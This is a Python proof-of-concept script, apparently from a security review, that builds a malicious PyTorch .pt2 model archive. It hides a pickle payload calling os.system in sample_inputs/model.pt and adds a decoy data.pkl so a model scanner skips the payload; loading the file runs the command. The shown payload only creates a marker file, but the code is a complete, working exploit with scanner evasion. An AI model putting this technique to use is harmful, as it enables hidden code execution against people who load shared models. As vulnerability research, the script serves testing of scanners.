# torch.export archive (.pt2) whose sample_inputs/model.pt is a *legacy* (non-zip) torch file: a raw
# pickle. torch.export.load hands it to torch.load (weights_only=True, then falls back to
# weights_only=False); the legacy path's first pickle.load runs the payload. A decoy base/data.pkl
# names sample_inputs/model.pt as a storage key: the scanner treats it as raw tensor data and only
# looks inside when it is a whole zip archive (review37 fix), so a raw pickle there is never walked.
import torch, zipfile, io, os, pickle, collections, sys
out = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else "pt2_legacy_storage.pt2"
here = os.path.dirname(os.path.abspath(__file__))
class M(torch.nn.Module):
    def __init__(s):
        super().__init__(); s.l = torch.nn.Linear(2, 2)
    def forward(s, x): return s.l(x)
base = os.path.join(here, "base.pt2")
if not os.path.exists(base):
    ep = torch.export.export(M(), (torch.randn(1, 2),))
    torch.export.save(ep, base)
class P:
    def __reduce__(s): return (os.system, ("touch /tmp/review39/pwned_pt2_legacy_storage",))
nested = pickle.dumps(P(), protocol=2)

def decoy_pickle(keys_sizes):
    class Pk(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, tuple) and obj and obj[0] == "PID":
                return obj[1]
            return None
    class T:
        def __init__(s, key, n): s.key, s.n = key, n
        def __reduce__(s):
            return (torch._utils._rebuild_tensor_v2,
                    (("PID", ("storage", torch.ByteStorage, s.key, "cpu", s.n)), 0, (s.n,), (1,), False,
                     collections.OrderedDict()))
    buf = io.BytesIO()
    Pk(buf, protocol=2).dump({f"t{i}": T(k, n) for i, (k, n) in enumerate(keys_sizes)})
    return buf.getvalue()

zin = zipfile.ZipFile(base)
names = [i.filename for i in zin.infolist()]
with zipfile.ZipFile(out, "w") as zo:
    for i in zin.infolist():
        d = zin.read(i.filename)
        if i.filename.endswith("sample_inputs/model.pt"):
            d = nested
        zo.writestr(i, d)
    zo.writestr("base/data.pkl", decoy_pickle([("sample_inputs/model.pt", len(nested))]))
print("written", out)
